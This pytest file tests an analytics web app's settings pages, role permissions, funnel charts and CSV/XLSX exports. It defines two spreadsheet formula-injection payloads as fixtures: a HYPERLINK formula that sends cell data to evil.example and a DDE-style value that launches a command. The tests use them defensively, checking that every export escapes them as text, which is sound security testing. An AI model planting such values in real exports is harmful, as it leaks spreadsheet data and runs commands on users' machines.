"""Analytics pages through a browser's eyes (cookie, CSRF, both languages), and what their exports contain.

- `/analytics/settings` answered 500 for every role in both languages (issue 14, point 1: the `%` in
  "成交概率（%）" broke the template's gettext formatting).
- Only the HQ admin changes settings and targets; the pages' POSTs are guarded by the permission table.
- Names typed by people (a store, a consultant) that start like a formula stay text in every CSV and XLSX
  (issue 11, point 6).
"""
from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from werkzeug.test import Client

from services.analytics.adapters.models import DimStore, DimUser, GroupSetting, Target
from shared import clock
from shared.tenancy import Scope
from tests.conftest import DEMO_PASSWORD, store_id, wait_until

READERS = ("hq.admin", "hq.analyst", "cc.sup", "sh-toyota-pd.manager")
FORMULA_STORE = '=HYPERLINK("http://evil.example/?x="&A1,"门店")'
FORMULA_PERSON = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def browser(platform, username: str, lang: str = "zh_CN") -> Client:
    """A signed-in browser with its language chosen by the switch (a cookie)."""
    c = Client(platform.wsgi())
    token = _csrf(c.get("/identity/login").get_data(as_text=True))
    r = c.post("/identity/login", data={"group": "demo", "username": username, "password": DEMO_PASSWORD,
                                        "csrf_token": token})
    assert r.status_code == 302, r.get_data(as_text=True)
    c.get(f"/identity/lang/{lang}?next=/identity/")
    return c


def _settings(platform) -> dict | None:
    with platform.runtimes["analytics"].db.session(Scope.system()) as s:
        row = s.scalar(select(GroupSetting))
        return None if row is None else dict(row.data)


@pytest.mark.parametrize("lang, header", [("zh_CN", "成交概率（%）"), ("en", "Delivery probability (%)")])
@pytest.mark.parametrize("user", READERS)
def test_the_settings_page_opens_for_every_reader_in_both_languages(platform, user, lang, header):
    r = browser(platform, user, lang).get("/analytics/settings")
    assert r.status_code == 200, r.get_data(as_text=True)[:500]
    html = r.get_data(as_text=True)
    assert header in html
    assert ('name="probability_A"' in html) and (("disabled" in html) == (user != "hq.admin"))


def test_the_hq_admin_saves_settings_from_the_page(platform):
    c = browser(platform, "hq.admin")
    form = {"csrf_token": _csrf(c.get("/analytics/settings").get_data(as_text=True))}
    for lv, (pct, days) in {"N": (2, 180), "C": (10, 180), "B": (30, 90), "A": (55, 30),
                            "H": (80, 7), "O": (95, 30)}.items():
        form |= {f"probability_{lv}": str(pct), f"horizon_days_{lv}": str(days)}
    r = c.post("/analytics/settings", data=form)
    assert r.status_code == 302
    assert _settings(platform)["probability"]["A"] == pytest.approx(0.55)
    assert 'value="55"' in c.get("/analytics/settings").get_data(as_text=True)


@pytest.mark.parametrize("user", ["hq.analyst", "cc.sup", "sh-toyota-pd.manager"])
def test_only_the_hq_admin_may_post_settings_or_targets(platform, user):
    c = browser(platform, user)
    token = _csrf(c.get("/analytics/settings").get_data(as_text=True))
    before = _settings(platform)
    r = c.post("/analytics/settings", data={"csrf_token": token, **{f"probability_{lv}": "99" for lv in "NCBAHO"}})
    assert r.status_code == 403
    assert _settings(platform) == before
    r = c.post("/analytics/targets", data={"csrf_token": token, "month": "2026-09", "kpi": "leads", "value": "9",
                                           "node": f"store:{store_id('sh-toyota-pd')}"})
    assert r.status_code == 403
    with platform.runtimes["analytics"].db.session(Scope.system()) as s:
        assert s.scalar(select(Target).where(Target.month == "2026-09", Target.value == 9)) is None


@pytest.fixture(scope="module")
def formula_names(api, platform):
    """A store and a consultant whose names a spreadsheet would run as formulas, known to analytics."""
    org = api.get("/identity/api/v1/org", as_="hq.admin").json
    toyota = next(b for b in org["brands"] if b["code"] == "toyota")
    st = api.post("/identity/api/v1/stores", as_="hq.admin", json={
        "brand_id": toyota["id"], "code": f"sz-toyota-{uuid.uuid4().hex[:6]}", "name": FORMULA_STORE, "city": "苏州"})
    assert st.status_code == 201, st.json
    u = api.post("/identity/api/v1/users", as_="hq.admin", json={
        "username": f"formula.{uuid.uuid4().hex[:6]}", "name": FORMULA_PERSON, "role": "sales_consultant",
        "store_id": store_id("sh-toyota-pd"), "password": "a-long-password-1"})
    assert u.status_code == 201, u.json

    def known():
        with platform.runtimes["analytics"].db.session(Scope.system()) as s:
            return s.get(DimStore, st.json["id"]) and s.get(DimUser, u.json["id"])

    wait_until(known, 60, interval=0.2)
    return st.json["id"]


def _cells(r) -> list[str]:
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    if r.mimetype == "text/csv":
        return [c for row in csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff"))) for c in row]
    wb = load_workbook(io.BytesIO(r.data))
    return [str(c) for ws in wb for row in ws.iter_rows(values_only=True) for c in row if c is not None]


@pytest.mark.parametrize("path, name", [
    ("/analytics/export/rank_store.csv", FORMULA_STORE),
    ("/analytics/export/rank_store.xlsx", FORMULA_STORE),
    ("/analytics/export/compliance.csv", FORMULA_STORE),
    ("/analytics/export/forecast.xlsx", FORMULA_STORE),
    ("/analytics/report.xlsx", FORMULA_STORE),
    (f"/analytics/export/children.csv?store_id={store_id('sh-toyota-pd')}", FORMULA_PERSON),
    (f"/analytics/export/children.xlsx?store_id={store_id('sh-toyota-pd')}", FORMULA_PERSON),
])
def test_names_that_look_like_formulas_stay_text_in_every_export(platform, formula_names, path, name):
    cells = _cells(browser(platform, "hq.admin").get(path))
    assert "'" + name in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _charts_of(html: str) -> dict:
    import json

    return json.loads(re.search(r'<script type="application/json" id="analytics-charts">(.*?)</script>', html,
                                re.S).group(1))


def test_a_funnel_bar_shows_its_share_of_the_first_level_and_none_of_an_empty_one(platform, api):
    """Each funnel bar says its count and its share of the first level; when the first level counts nobody
    (early in a month, leads of the months before reach the later levels) it says the count alone: the chart
    wrote "Infinity%" there."""
    from services.analytics.entrypoints.pages import funnel_bars
    from tests.leads.helpers import new_lead

    lead = new_lead(api, "sh-toyota-pd.sales1")
    web = browser(platform, "hq.admin")
    # the group's month of the lead (not of the clock once it is counted: a run at a month's last second)
    month = datetime.fromisoformat(lead["created_at"]).astimezone(clock.zone()).strftime("%Y-%m")

    def showroom_funnel() -> list[dict]:
        page = web.get(f"/analytics/?month={month}")
        assert page.status_code == 200
        return _charts_of(page.get_data(as_text=True))["funnels"]["showroom"]

    showroom = wait_until(lambda: (f := showroom_funnel()) and f[0]["count"] > 0 and f, 60)  # the lead, counted
    first = showroom[0]["count"]
    assert [bar["text"] for bar in showroom] == [f"{bar['count']} · {bar['count'] / first:.0%}" for bar in showroom]
    assert showroom[0]["text"].endswith("· 100%")
    with platform.apps["analytics"].test_request_context():
        bars = funnel_bars([{"level": "N", "count": 0}, {"level": "C", "count": 3}, {"level": "O", "count": 1}])
    assert [bar["text"] for bar in bars] == ["0", "3", "1"] and [bar["count"] for bar in bars] == [0, 3, 1]
